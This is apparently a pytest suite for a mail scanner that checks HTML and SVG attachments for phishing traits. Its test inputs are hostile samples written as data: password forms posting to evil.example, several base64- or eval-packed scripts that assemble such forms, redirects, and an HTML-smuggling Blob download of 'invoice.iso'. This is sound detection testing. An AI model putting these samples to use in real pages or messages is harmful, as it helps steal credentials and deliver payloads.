"""Pages are read as a browser would find them, what their scripts hold included."""

from __future__ import annotations

from base64 import b64encode
from time import process_time
from urllib.parse import quote

import pytest
from hypothesis import given
from hypothesis import strategies as st

from firstsight.mail.content.magic import detect
from firstsight.mail.inside import TRAITS, File, look_inside
from firstsight.mail.inside.markup import MAX_FILES, MAX_LINKS, MAX_TEXT, data_files, open_markup
from firstsight.mail.inside.opener import Inside

PNG = b64encode(b"\x89PNG\r\n\x1a\n" + bytes(80)).decode()


def page(markup: str | bytes, kind: str = "text/html") -> File:
    return File("page.html", kind, kind, markup.encode() if isinstance(markup, str) else markup)


def test_a_form_with_a_password_is_told_and_where_it_sends() -> None:
    inside = open_markup.open(
        page('<title>Mail</title><form action="https://evil.example/p"><input type=PASSWORD></form>')
    )
    assert inside.traits == ("form", "password-field")
    assert ("https://evil.example/p", "", "attachment") in inside.links
    assert "Mail" in inside.text


def test_a_form_that_only_a_script_puts_there_is_found() -> None:
    packed = b64encode(b'<form action="https://evil.example/p"><input type=password>').decode()
    inside = open_markup.open(page(f'<script>document.write(atob("{packed}"))</script>'))
    assert {"script", "script-assembly", "assembled-form", "password-field"} <= set(inside.traits)
    assert inside.links == (("https://evil.example/p", "", "attachment"),)


def test_a_form_packed_twice_is_found() -> None:
    inner = b64encode(b'<form action="https://evil.example/2"><input type=password>').decode()
    outer = b64encode(f'<script>document.write(atob("{inner}"))</script>'.encode()).decode()
    inside = open_markup.open(page(f'<script>document.write(atob("{outer}"))</script>'))
    assert ("https://evil.example/2", "", "attachment") in inside.links


@pytest.mark.parametrize(
    ("markup", "kind", "trait", "link"),
    [
        ('<meta http-equiv="Refresh" content="0; url=https://evil.example/r">', "text/html", "redirect",
         "https://evil.example/r"),
        ("<script>location.replace('https://evil.example/l')</script>", "text/html", "redirect",
         "https://evil.example/l"),
        ('<iframe src="https://evil.example/f"></iframe>', "text/html", "frame", "https://evil.example/f"),
        ('<svg xmlns="http://www.w3.org/2000/svg"><script>location="https://evil.example/s"</script></svg>',
         "image/svg+xml", "svg-script", "https://evil.example/s"),
        ('<body onload="location=\'https://evil.example/o\'">', "text/html", "", "https://evil.example/o"),
    ],
)  # fmt: skip
def test_where_a_page_sends_its_reader_is_told(markup: str, kind: str, trait: str, link: str) -> None:
    inside = open_markup.open(page(markup, kind))
    assert not trait or trait in inside.traits
    assert link in [href for href, _, _ in inside.links]


def test_a_report_of_tables_has_no_traits() -> None:
    inside = open_markup.open(page("<table><tr><td>coverage</td><td>93 %</td></tr></table>"))
    assert inside.traits == ()
    assert "coverage" in inside.text


def test_pictures_in_the_markup_are_handed_on() -> None:
    markup = f'<img src="data:image/png;base64,{PNG}">' * 9
    assert [file.detected for file in data_files(markup)] == ["image/png"] * MAX_FILES
    assert data_files("<img src='data:image/png;base64,!!'>") == ()


@given(st.binary(max_size=400), st.sampled_from(["text/html", "image/svg+xml"]))
def test_any_octets_give_an_answer_in_known_words(octets: bytes, kind: str) -> None:
    assert set(look_inside(page(octets, kind)).traits) <= set(TRAITS)


FORM = '<form action="https://evil.example/x"><input type="password" placeholder="Your key"></form>'
PACKED = b64encode(FORM.encode()).decode()


def opened(markup: str | bytes, detected: str = "text/html") -> Inside:
    """What is found on a page."""
    return open_markup.open(page(markup, detected))


def hrefs(inside: Inside) -> list[str]:
    """Where the links lead."""
    assert all(place == "attachment" for _, _, place in inside.links)
    return [href for href, _, _ in inside.links]


def test_a_form_a_password_and_what_the_page_says_are_read() -> None:
    inside = opened(f"<title>Sign in</title><p>Open the <a href='https://a.example/'>file </a>{FORM}")
    assert inside.traits == ("form", "password-field")
    assert inside.links == (
        ("https://a.example/", "file", "attachment"),
        ("https://evil.example/x", "", "attachment"),
    )
    assert inside.text == "Open the file\nSign in\nYour key"


@pytest.mark.parametrize(
    ("markup", "traits", "href"),
    [
        ("<meta http-equiv=Refresh content='0; URL=https://r.example/'>", {"redirect"}, "https://r.example/"),
        ("<script>window.location.href = 'https://r.example/'</script>", {"script", "redirect"}, "https://r.example/"),
        ("<script src=//cdn.example/x.js></script>", {"script"}, "//cdn.example/x.js"),
        ("<iframe src=https://f.example/></iframe>", {"frame"}, "https://f.example/"),
        (f"<iframe srcdoc='{FORM}'>", {"frame", "form", "password-field"}, "https://evil.example/x"),
        (
            f"<iframe src='data:text/html;base64,{PACKED}'>",
            {"frame", "form", "password-field"},
            "https://evil.example/x",
        ),
        (f"<a href='data:text/html,{quote(FORM)}'>x</a>", {"form", "password-field"}, "https://evil.example/x"),
        ("<base href=https://b.example/><form action=post.php>", {"form"}, "https://b.example/post.php"),
        ("<a href='javascript:location=%22https://j.example/%22'>x</a>", {"redirect"}, "https://j.example/"),
        ("<svg><script>x</script></svg>", {"script", "svg-script"}, ""),
        ("<svg><a xlink:href='https://s.example/'><text>x</text></a></svg>", set(), "https://s.example/"),
        ("<p>A report with <b>figures</b></p><img src=https://i.example/>", set(), ""),
    ],
)
def test_where_a_page_leads_and_what_it_does(markup: str, traits: set[str], href: str) -> None:
    inside = opened(markup)
    assert set(inside.traits) == traits
    assert hrefs(inside) == ([href] if href else [])


@pytest.mark.parametrize(
    "script",
    [
        f"document.write(atob('{PACKED}'))",
        f"document.write(unescape('{quote(FORM)}'))",
        f"x.innerHTML = '{FORM[::-1]}'.split('').reverse().join('')",
        "document.write(String.fromCharCode(" + ",".join(str(ord(letter) + 3) for letter in FORM) + "))",
        "eval(atob('" + b64encode(f"document.write(atob('{PACKED}'))".encode()).decode() + "'))",
    ],
)
def test_a_form_that_a_script_puts_together_is_seen(script: str) -> None:
    for markup in (f"<body><script>{script}</script>", f'<body onload="{script.replace(chr(34), "&quot;")}">'):
        inside = opened(markup)
        assert {"assembled-form", "script-assembly", "password-field"} <= set(inside.traits)
        assert "https://evil.example/x" in hrefs(inside)


def test_what_is_packed_more_often_than_is_unpacked_stays_packed() -> None:
    script = f"document.write(atob('{PACKED}'))"
    for _ in range(3):
        script = f"document.write(atob('{b64encode(f'<script>{script}</script>'.encode()).decode()}'))"
    assert "assembled-form" not in opened(f"<script>{script}</script>").traits


def test_a_file_that_a_script_hands_over_is_smuggled() -> None:
    script = "var b = new Blob([bytes]); a.href = URL.createObjectURL(b); a.download = '{}'; a.click()"
    archive = b64encode(b"PK\x03\x04" + bytes(90)).decode()
    assert "smuggling" in opened(f"<script>{script.format('invoice.iso')}</script>").traits
    inside = opened(f"<script>bytes = atob('{archive}'); {script.format('invoice')}</script>")
    assert "smuggling" in inside.traits
    assert [file.detected for file in inside.files] == ["application/zip"]
    assert "smuggling" not in opened("<script>var a = new Blob([bytes]); post(a)</script>").traits


def test_an_svg_with_a_script_is_read_in_utf_16_too() -> None:
    markup = "<svg xmlns='http://www.w3.org/2000/svg'><script>location='https://s.example/'</script></svg>"
    inside = opened(markup.encode("utf-16"), "image/svg+xml")
    assert {"svg-script", "redirect"} <= set(inside.traits)
    assert hrefs(inside) == ["https://s.example/"]


def test_markup_that_would_blow_up_is_read_by_patterns() -> None:
    inside = opened("<b x=1><p>" * 30_000 + FORM + f"<script>document.write(atob('{PACKED}'))</script>")
    assert {"form", "password-field", "script", "script-assembly"} <= set(inside.traits)
    assert "https://evil.example/x" in hrefs(inside)
    assert "read by patterns" in inside.defect


@pytest.mark.parametrize(
    "unit",
    ["<", "<script>", "<script>x='<b><p>'</script>", "<iframe srcdoc='", "<div>", "<a href=http://x.y/>t",
     "data:image/png;base64,", "<script>document  ", "<form><input>", "\n ", '<a onload="x=\'%3Ca\'">'],
)  # fmt: skip
def test_a_million_characters_are_read_in_bounded_time(unit: str) -> None:
    start = process_time()
    inside = opened(unit * (1_000_000 // len(unit)))
    assert process_time() - start < 6.0  # less than one on an idle machine
    assert len(inside.links) <= MAX_LINKS


PIECES = [FORM, "<svg>", "<script>", "</script>", "<iframe srcdoc=", "'", '"', f"atob('{PACKED}')", "<a href=",
          "javascript:", "data:text/html;base64,", "<meta http-equiv=refresh content=",
          ";url=", "\0", "&#x", "<base href=//[", ">", "é"]  # fmt: skip


@given(st.lists(st.sampled_from(PIECES), max_size=30))
def test_pieces_in_any_order_never_raise(pieces: list[str]) -> None:
    inside = opened("".join(pieces))
    assert set(inside.traits) <= set(TRAITS)
    assert len(inside.text) <= MAX_TEXT


@given(st.binary(max_size=300))
def test_any_script_never_raises(octets: bytes) -> None:
    opened(b"<script>" + octets).text.encode()


LIBRARY = """
function show(t) { document.getElementById("t").innerHTML = t; var f = document.implementation.createHTMLDocument("");
f.body.innerHTML = "<form></form><form></form>"; return unescape(encodeURIComponent(t)) + String.fromCharCode(65) }
function save(t) { var a = document.createElement("a"); a.href = URL.createObjectURL(new Blob([t]));
a.download = "figures.csv"; a.click() } var icon = "url(data:image/svg+xml;utf8,%3Csvg xmlns='x'%3E%3C/svg%3E)";
var page = atob(location.hash.slice(1)); eval("1+1"); var ns = "http://www.w3.org/1999/xhtml";
"""
"""What libraries of tables and charts have in them: calls that also pages use which put themselves together."""


def test_a_report_with_its_library_in_it_does_not_put_itself_together() -> None:
    inside = opened(f"<script>{LIBRARY}</script><table><tr><td>93 %</table><script>show([1, 2, 3])</script>")
    assert not {"script-assembly", "assembled-form", "smuggling", "password-field"}.intersection(inside.traits)
    assert inside.links == ()


def test_a_script_that_is_mostly_packed_and_shows_what_it_unpacks_puts_the_page_together() -> None:
    cipher = b64encode(bytes(octet * 37 & 0xFF for octet in range(400))).decode()
    script = f"k='key';e=atob('{cipher}');for(i=0;i<e.length;i++)o+=c(e.charCodeAt(i)^k);document.write(o)"
    assert "script-assembly" in opened(f"<script>{script}</script>").traits


def test_a_web_archive_is_read_as_its_page() -> None:
    archive = (
        "From: <Saved by a browser>\r\nSubject: Page\r\nMIME-Version: 1.0\r\n"
        'Content-Type: multipart/related; type="text/html"; boundary="b"\r\n\r\n--b\r\nContent-Type: text/html\r\n'
        f"Content-Transfer-Encoding: base64\r\n\r\n{PACKED}\r\n--b--\r\n"
    ).encode()
    inside = look_inside(File("page.mht", "application/octet-stream", "message/rfc822", archive))
    assert {"form", "password-field"} <= set(inside.traits)
    assert hrefs(inside) == ["https://evil.example/x"]
    assert look_inside(File("mail.eml", "message/rfc822", "message/rfc822", archive)) == Inside()


@pytest.mark.parametrize("start", ["#!/bin/sh\n", "MZ", "%PDF-1.7\n", "GIF89a"])
def test_a_page_is_read_whatever_it_begins_with(start: str) -> None:
    octets = f'{start}<form action="https://evil.example/p"><input type=password></form>'.encode()
    inside = look_inside(File("fax.html", "application/octet-stream", detect(octets), octets))
    assert "password-field" in inside.traits
